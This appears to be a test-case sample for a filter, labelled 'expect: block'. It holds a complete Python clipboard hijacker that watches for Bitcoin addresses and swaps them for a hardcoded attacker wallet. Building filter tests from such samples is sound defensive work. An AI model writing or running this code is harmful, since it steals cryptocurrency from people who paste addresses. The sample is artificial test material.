# expect: block
import re, time, pyperclip
ATTACKER = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
while True:
    text = pyperclip.paste()
    if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}", text or ""):
        pyperclip.copy(ATTACKER)
    time.sleep(0.5)
